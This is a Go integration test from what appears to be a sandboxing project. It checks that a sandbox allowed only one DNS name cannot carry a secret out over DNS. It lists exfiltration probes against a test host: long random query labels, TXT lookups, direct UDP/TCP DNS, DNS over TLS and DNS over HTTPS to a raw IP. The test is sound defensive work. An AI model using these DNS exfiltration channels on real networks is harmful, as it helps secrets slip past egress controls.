package integration

import (
	"sort"
	"strings"
	"testing"

	"github.com/agentbox/agentbox/api"
)

// itemDNSExfil is SECURITY.md's item 13: DNS exfiltration under an
// allowlist. A sandbox allowed exactly one name tries to carry a secret
// out through DNS: as labels of long random names (A and TXT, through its
// resolver), under the allowed name, straight to the test web's DNS
// server over UDP, TCP and DNS over TLS, and as DNS over HTTPS to a raw IP.
// The verdict is the host's: testWeb's DNS and web servers saw no query
// or request carrying the secret, while the allowed name did resolve
// through the same upstream.
func itemDNSExfil(t *testing.T, b *battery) {
	needTestWeb(t)
	w := &testWeb
	secret := "exfil" + randHex(12)
	id := b.sandbox(t, api.CreateSandboxRequest{Template: "base", Network: &api.Network{Egress: api.EgressCustom, Allow: []string{nameAllowed}}})
	long := secret + "." + randHex(30) + "." + randHex(30) + "." + randHex(30)
	got := expectProbes(t, id, []probeWant{
		{"query:" + long + ".exfil.test:A", "ok:rcode=3"},
		{"query:" + secret + ".exfil.test:TXT", "ok:rcode=3"},
		{"query:" + secret + "." + nameAllowed + ":TXT", "ok:rcode=3"}, // only the exact name is allowed
		{"resolve:" + secret + ".exfil.test", "err:"},
		{"dns:" + w.dnsAddr + ":" + secret + ".exfil.test:TXT", "err:"},
		{"dnstcp:" + w.dnsAddr + ":" + secret + ".exfil.test", "err:"},
		{"dot:" + w.dnsAddr, "err:"},
		{"doh:" + w.web1 + ":" + secret, "err:"}, // DoH to a raw IP: no SNI
		{"doh:" + w.dnsAddr + ":" + secret, "err:"},
		{"resolve:" + nameAllowed, "ok:" + w.web1}, // the path out works for what is allowed
	})
	queries, requests := testWebSeen()
	if strings.Contains(queries, secret) {
		t.Errorf("the test DNS server saw the secret:\n%s", queries)
	}
	if strings.Contains(requests, secret) {
		t.Errorf("the test web servers saw the secret:\n%s", requests)
	}
	if !strings.Contains(queries, nameAllowed+" A") {
		t.Errorf("the allowed name never reached the upstream (is the test wrong?):\n%s", queries)
	}
	var failed []string
	for p, v := range got {
		if strings.HasPrefix(v, "err:") || strings.HasPrefix(v, "ok:rcode=3") {
			failed = append(failed, strings.SplitN(p, ":", 2)[0]+"="+strings.TrimPrefix(strings.TrimPrefix(v, "err:"), "ok:"))
		}
	}
	sort.Strings(failed)
	evidence(t, "upstream saw %d queries, none with the secret; the sandbox's attempts: %s", strings.Count(queries, "\n")+1, strings.Join(failed, " "))
}
